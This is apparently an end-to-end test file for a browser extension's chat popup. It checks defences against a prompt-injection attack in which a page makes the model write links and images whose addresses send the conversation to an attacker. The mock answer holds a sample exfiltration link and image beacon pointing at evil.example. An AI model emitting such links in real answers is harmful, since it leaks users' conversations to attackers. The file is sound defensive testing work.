import type { Page } from '@playwright/test';
import { test as base, expect, openExtensionPage } from '../e2e/fixtures/test';
import { call } from '../e2e/fixtures/messaging';
import { writeStorage } from '../e2e/fixtures/storage';
import { passphraseCanary } from '../e2e/fixtures/canary';
import { sendInUi } from '../e2e/fixtures/ui-steps';
import type { MockProvider } from '../mock-provider/server';
import { mockProviderFixture } from '../e2e/fixtures/per-test';

/**
 * Security review finding 8 (issue 11): a prompt-injected page can make the model write a link whose
 * address carries the conversation, or an image whose address does, which the answer would load by
 * itself. Here the model (the mock provider) answers with both; the popup must show every link's
 * host, load no image, send nothing to the attacker's host, and ask before opening the link that
 * carries a query string. The attacker's host and the harmless one are answered by Playwright, so
 * the test sees every request to them and needs no network.
 */

const EXFIL_URL = 'https://evil.example/collect?c=secret-conversation';
const ANSWER = [
  'Read [docs](https://example.com/docs) first.',
  '',
  `Then [click](${EXFIL_URL}) to continue.`,
  '',
  '![x](https://evil.example/p.png?d=1)',
  '',
  'That is all.',
].join('\n');

interface Fixtures {
  mock: MockProvider;
  options: Page;
}

const test = base.extend<Fixtures>({
  mock: mockProviderFixture,
  options: async ({ ext, mock }, use) => {
    const options = await openExtensionPage(ext, 'options');
    await call(options, 'vault.create', { passphrase: passphraseCanary().value });
    const added = await call(options, 'keys.add', { provider: 'openai', label: 'Mock', secret: { apiKey: 'sk-proj-e2eLINKSkey0123456789abcdefgh' }, settings: { baseUrl: `${mock.url}/v1` } });
    await writeStorage(options, 'local', 'lastTargets', [{ keyId: added.id, model: 'gpt-4.1-nano' }]);
    mock.reset();
    await use(options);
  },
});

test('answer links show their host, images stay text, and a link with a query opens only after a confirmation', async ({ ext, mock, options }) => {
  const evilRequests: string[] = [];
  ext.context.on('request', (request) => {
    if (new URL(request.url()).hostname.endsWith('evil.example')) evilRequests.push(request.url());
  });
  await ext.context.route(
    (url) => url.hostname === 'example.com' || url.hostname.endsWith('evil.example'),
    (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<!doctype html><title>stub</title><p>stub</p>' }),
  );
  mock.setScenario('normal', { answer: ANSWER });

  const popup = await openExtensionPage(ext, 'popup');
  await options.close();
  await sendInUi(popup, 'Summarize this page');
  const answer = popup.getByRole('article', { name: 'Assistant' }).last();
  await expect(answer).toContainText('That is all.');
  const docs = answer.getByRole('link', { name: 'docs (example.com)' });
  const exfil = answer.getByRole('link', { name: 'click (evil.example)' });

  await test.step('every link shows its host; the image is text, not loaded', async () => {
    await expect(docs.locator('.link-host')).toHaveText('(example.com)');
    await expect(docs.locator('.link-host')).toBeVisible();
    await expect(exfil.locator('.link-host')).toHaveText('(evil.example)');
    await expect(exfil.locator('.link-host')).toBeVisible();
    await expect(answer.getByRole('link')).toHaveCount(2);
    await expect(answer.getByText('[image: x] (evil.example)')).toBeVisible();
    await expect(popup.locator('img')).toHaveCount(0);
  });

  const dialog = popup.getByRole('dialog', { name: 'Open this link?' });
  const pagesBefore = ext.context.pages().length;

  await test.step('a click on the link with a query shows the whole address; Cancel opens nothing', async () => {
    // No href: the browser's own "Open link in new tab" and dragging the link cannot skip the question.
    await expect(exfil).not.toHaveAttribute('href');
    await exfil.click();
    await expect(dialog).toBeVisible();
    await expect(dialog.getByTestId('link-confirm-url')).toHaveText(EXFIL_URL);
    await expect(dialog.locator('mark')).toHaveText('evil.example');
    await expect(dialog).toContainText('The assistant wrote this address');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog).toHaveCount(0);
  });

  await test.step('Enter on the focused link, a click on its host and a middle click ask too', async () => {
    await exfil.focus();
    await popup.keyboard.press('Enter');
    await expect(dialog).toBeVisible();
    await popup.keyboard.press('Escape');
    await expect(dialog).toHaveCount(0);
    await expect(exfil).toBeFocused();

    await exfil.locator('.link-host').click();
    await expect(dialog).toBeVisible();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog).toHaveCount(0);

    await exfil.click({ button: 'middle' });
    await expect(dialog).toBeVisible();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await expect(dialog).toHaveCount(0);
  });

  await test.step('nothing was opened and nothing went to evil.example', async () => {
    await popup.waitForTimeout(1000);
    expect(ext.context.pages()).toHaveLength(pagesBefore);
    expect(evilRequests).toEqual([]);
  });

  await test.step('a link without query or fragment opens directly in a new tab, without opener or referrer', async () => {
    const [tab] = await Promise.all([ext.context.waitForEvent('page'), docs.click()]);
    await tab.waitForLoadState();
    expect(tab.url()).toBe('https://example.com/docs');
    expect(await tab.evaluate(() => ({ opener: window.opener as unknown, referrer: document.referrer }))).toEqual({ opener: null, referrer: '' });
    await tab.close();
    await popup.bringToFront();
    await expect(dialog).toHaveCount(0);
    expect(evilRequests).toEqual([]);
  });

  await test.step('positive control: Open in the confirmation opens the whole address in a new tab', async () => {
    await exfil.click();
    await expect(dialog).toBeVisible();
    const [tab] = await Promise.all([ext.context.waitForEvent('page'), dialog.getByRole('button', { name: 'Open link' }).click()]);
    await tab.waitForLoadState();
    expect(tab.url()).toBe(EXFIL_URL);
    expect(await tab.evaluate(() => ({ opener: window.opener as unknown, referrer: document.referrer }))).toEqual({ opener: null, referrer: '' });
    expect(evilRequests).toEqual([EXFIL_URL]);
  });
});
